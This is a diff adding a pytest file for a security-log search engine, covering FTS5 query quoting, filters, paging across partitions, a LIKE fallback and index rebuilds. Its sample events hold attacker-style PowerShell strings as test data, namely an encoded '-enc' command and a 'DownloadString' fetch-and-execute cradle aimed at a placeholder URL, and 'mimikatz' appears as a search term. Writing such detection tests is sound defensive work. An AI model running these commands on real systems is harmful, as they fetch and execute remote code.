@@ -0,0 +1,125 @@
+"""Full-text search: query quoting, ranked merge across partitions, the LIKE fallback and index rebuilds."""
+import sqlite3
+import time
+
+import pytest
+
+from app.core import search
+from app.core.db import Database
+from app.core.migrations import fts5_available
+from app.core.search import fts_query
+
+pytestmark = pytest.mark.skipif(not fts5_available(), reason="SQLite without FTS5")
+
+
+def event(ts, message, command=None, user='alice'):
+    return {'timestamp': ts, 'channel': 'Microsoft-Windows-PowerShell/Operational', 'event_id': 4104, 'user': user,
+            'ip': None, 'command': command, 'message': message}
+
+
+@pytest.fixture
+def db(tmp_path):
+    db = Database(str(tmp_path / 'siem.db'), flush_interval_ms=10, spool_max_mb=0)
+    db.insert_events([
+        event('2024-05-01T10:00:00', 'powershell -enc SQBFAFgA', 'powershell.exe -enc SQBFAFgA'),
+        event('2024-05-01T11:00:00', 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")'),
+        event('2024-05-02T10:00:00', 'rate limit at 100% for ws01.corp.local'),
+        event('2024-05-02T11:00:00', 'rate limit at 1000 for ws02'),
+        event('2024-05-03T09:00:00', 'say "hello" to invoke invoke invoke', user='bob'),
+    ])
+    db.flush()
+    yield db
+    db.close()
+
+
+def texts(result):
+    return [r['message'] for r in result['results']]
+
+
+def test_fts_query_quotes_every_term():
+    assert fts_query('-enc') == '"-enc"'
+    assert fts_query('  powershell   -enc ') == '"powershell" "-enc"'
+    assert fts_query('say "hi"') == '"say" """hi"""'
+    assert fts_query('Invoke*') == '"Invoke*"'
+    assert fts_query('a OR b') == '"a" "OR" "b"'
+
+
+def test_punctuation_is_searched_literally(db):
+    assert texts(db.search('-enc')) == ['powershell -enc SQBFAFgA']
+    assert texts(db.search('ws01.corp.local')) == ['rate limit at 100% for ws01.corp.local']
+    assert texts(db.search('DownloadString(')) == [
+        'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")']
+    assert texts(db.search('"hello"')) == ['say "hello" to invoke invoke invoke']
+    assert texts(db.search('a OR b')) == []  # OR is a term, not an operator
+    # * is not a prefix operator unless raw
+    assert texts(db.search('Down*')) == []
+    assert texts(db.search('Down*', raw=True)) == [
+        'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")']
+    with pytest.raises(ValueError):
+        db.search('AND AND (', raw=True)
+
+
+def test_filters_and_time_range(db):
+    assert texts(db.search('invoke', filters={'user': 'bob'})) == ['say "hello" to invoke invoke invoke']
+    assert texts(db.search('rate', time_range=('2024-05-02T10:30:00', None))) == ['rate limit at 1000 for ws02']
+    assert db.search('   ')['results'] == []
+
+
+def test_ranked_merge_across_partitions_and_pages(tmp_path):
+    db = Database(str(tmp_path / 'siem.db'), flush_interval_ms=10, spool_max_mb=0)
+    try:
+        # "mimikatz" density varies per row; rows are spread over three partitions
+        rows = []
+        for day in (1, 2, 3):
+            for n in (1, 2, 3):
+                rows.append(event(f'2024-05-0{day}T0{n}:00:00', ' '.join(['mimikatz'] * (n + day) + ['filler'] * 6),
+                                  user=f'd{day}n{n}'))
+        db.insert_events(rows)
+        db.flush()
+
+        seen, scores, page = [], [], 1
+        while True:
+            result = db.search('mimikatz', page=page, page_size=4)
+            seen += [r['user'] for r in result['results']]
+            scores += [r['score'] for r in result['results']]
+            if not result['has_more']:
+                break
+            page += 1
+        assert page == 3
+        assert sorted(seen) == sorted(r['user'] for r in rows)  # every hit once, none repeated
+        assert scores == sorted(scores)  # bm25: lower is better, merged in order across partitions
+        assert seen[0] == 'd3n3' and seen[-1] == 'd1n1'
+        assert '[mimikatz]' in db.search('mimikatz', page_size=1)['results'][0]['snippet']
+    finally:
+        db.close()
+
+
+def test_like_fallback_without_fts(db, monkeypatch):
+    monkeypatch.setattr(search, '_has_fts', lambda conn, schema: False)
+    assert texts(db.search('100%')) == ['rate limit at 100% for ws01.corp.local']
+    assert texts(db.search('rate limit')) == ['rate limit at 1000 for ws02', 'rate limit at 100% for ws01.corp.local']
+    assert texts(db.search('SQBFAFgA')) == ['powershell -enc SQBFAFgA']
+    assert all(r['score'] == 0.0 for r in db.search('rate')['results'])
+
+
+def test_rebuild_restores_a_cleared_index_in_the_background(db):
+    for path in [db.partitions.path(name) for name, _, _ in db.partitions.list()] + [db.path]:
+        conn = sqlite3.connect(path)
+        conn.execute("INSERT INTO events_fts(events_fts) VALUES('delete-all')")
+        conn.commit()
+        conn.close()
+    legacy = sqlite3.connect(db.path)
+    legacy.execute("INSERT INTO events(timestamp, ts_us, channel, event_id, message) "
+                   "VALUES('2024-04-30T10:00:00', 1714471200000000, 'Security', 1, 'legacy mimikatz row')")
+    legacy.execute("INSERT INTO events_fts(events_fts) VALUES('delete-all')")
+    legacy.commit()
+    legacy.close()
+    assert texts(db.search('invoke')) == [] and texts(db.search('mimikatz')) == []
+
+    db.rebuild_search_index()
+    deadline = time.monotonic() + 5
+    while (db.stats()['backfills_pending'] or not db.search('mimikatz')['results']) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert texts(db.search('mimikatz')) == ['legacy mimikatz row']
+    assert len(db.search('invoke')['results']) == 2
+    assert texts(db.search('-enc')) == ['powershell -enc SQBFAFgA']